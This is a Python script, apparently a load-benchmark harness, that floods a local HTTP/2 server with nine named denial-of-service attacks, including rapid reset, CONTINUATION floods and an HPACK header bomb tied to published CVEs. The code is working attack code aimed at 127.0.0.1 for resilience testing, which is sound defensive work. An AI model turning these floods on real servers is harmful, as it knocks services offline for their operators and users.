"""A hostile HTTP/2 client: one kind of flood over and over, on as many connections as it takes.

``python -m benchmarks.load.http2_attacker --port 8080 --kind rapid-reset`` sends until it is ended;
a line on stdin is answered with what it has sent. Kinds are those of RFC 9113, 10.5, and its heirs:
CVE-2019-9511 to 9518, CVE-2023-44487, CVE-2024-27316, and CVE-2025-8671.
"""

import itertools
import json
import os
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Final

import click

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = (
    0,
    1,
    2,
    3,
    4,
    6,
    8,
    9,
)
_END_STREAM: Final = 1
_END_HEADERS: Final = 4
# :method GET, :scheme http, :path /, :authority as a literal (RFC 7541, appendix A).
_GET: Final = b"\x82\x86\x84\x01\x0csite.example"
_POST: Final = b"\x83\x86\x84\x01\x0csite.example"
_CANCEL: Final = struct.pack("!L", 8)
_AT_ONCE: Final = 64  # frames of one write
_WAIT_S: Final = 5.0
_NEW_S: Final = 0.005  # between two connections: opening them is no flood of HTTP/2's


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One frame (RFC 9113, 4.1)."""
    return struct.pack("!L", len(payload))[1:] + struct.pack("!BBL", kind, flags, stream) + payload


_Frames = Iterator[bytes]


def _rapid_reset() -> _Frames:
    for stream in itertools.count(1, 2):
        yield frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, _GET)
        yield frame(_RST_STREAM, 0, stream, _CANCEL)


def _provoked_resets() -> _Frames:
    """A window of nothing more is an error of the stream, which the server has to reset."""
    for stream in itertools.count(1, 2):
        yield frame(_HEADERS, _END_HEADERS, stream, _POST)
        yield frame(_WINDOW_UPDATE, 0, stream, bytes(4))


def _continuation() -> _Frames:
    yield frame(_HEADERS, 0, 1, _GET)
    for number in itertools.count():
        name = b"x-%06d" % (number % 1_000_000)
        yield frame(_CONTINUATION, 0, 1, b"\x00\x08" + name + b"\x01a")


def _ping() -> _Frames:
    while True:
        yield frame(_PING, 0, 0, bytes(8))


def _settings() -> _Frames:
    while True:
        yield frame(_SETTINGS, 0, 0, struct.pack("!HL", 4, 65535))


def _empty_data() -> _Frames:
    yield frame(_HEADERS, _END_HEADERS, 1, _POST)
    while True:
        yield frame(_DATA, 0, 1, b"")


def _priority() -> _Frames:
    for stream in itertools.cycle(range(1, 2001, 2)):
        yield frame(_PRIORITY, 0, stream, struct.pack("!LB", 0, 15))


def _header_bomb() -> _Frames:
    """4,000 bytes go into the table once; each octet of a head then stands for all of them."""
    value = b"a" * 3900
    inserting = b"\x40\x01x\x7f" + _varint(len(value) - 127) + value
    for stream in itertools.count(1, 2):
        head = _GET + (inserting if stream == 1 else b"") + b"\xbe" * 4000
        yield frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, head)


def _stalled() -> _Frames:
    """Requests whose answers are never taken."""
    yield frame(_SETTINGS, 0, 0, struct.pack("!HL", 4, 0))
    for stream in itertools.count(1, 2):
        yield frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, _GET)


def _varint(number: int) -> bytes:
    """The rest of an integer of HPACK (RFC 7541, 5.1)."""
    out = bytearray()
    while number >= 128:
        out.append(number % 128 | 128)
        number //= 128
    out.append(number)
    return bytes(out)


KINDS: Final[dict[str, Callable[[], _Frames]]] = {
    "rapid-reset": _rapid_reset,
    "provoked-resets": _provoked_resets,
    "continuation": _continuation,
    "ping": _ping,
    "settings": _settings,
    "empty-data": _empty_data,
    "priority": _priority,
    "header-bomb": _header_bomb,
    "stalled": _stalled,
}


class Attacker:
    """Floods one connection until it is closed, and then the next."""

    def __init__(self, port: int, kind: str) -> None:
        self.sent = 0  # frames
        self.connections = 0
        self._port = port
        self._kind = kind

    def run(self, asked: Callable[[], None]) -> None:
        while True:
            with suppress(OSError):
                self._flood(asked)
            time.sleep(_NEW_S)
            asked()

    def _flood(self, asked: Callable[[], None]) -> None:
        frames = KINDS[self._kind]()
        with socket.create_connection(("127.0.0.1", self._port), timeout=_WAIT_S) as sock:
            self.connections += 1
            sock.sendall(_PREFACE + frame(_SETTINGS, 0, 0, b""))
            while True:
                sock.sendall(b"".join(itertools.islice(frames, _AT_ONCE)))
                self.sent += _AT_ONCE
                asked()
                while select.select([sock], [], [], 0.0)[0]:
                    if not sock.recv(65536):
                        return


@click.command()
@click.option("--port", type=int, required=True)
@click.option("--kind", type=click.Choice(sorted(KINDS)), required=True)
def main(port: int, kind: str) -> None:
    """Attack until the process is ended."""
    os.nice(19)  # the neighbours that are measured share its core
    attacker = Attacker(port, kind)

    def asked() -> None:
        if select.select([sys.stdin], [], [], 0.0)[0]:
            sys.stdin.readline()
            print(
                json.dumps({"frames": attacker.sent, "connections": attacker.connections}),
                flush=True,
            )

    attacker.run(asked)


if __name__ == "__main__":
    main()
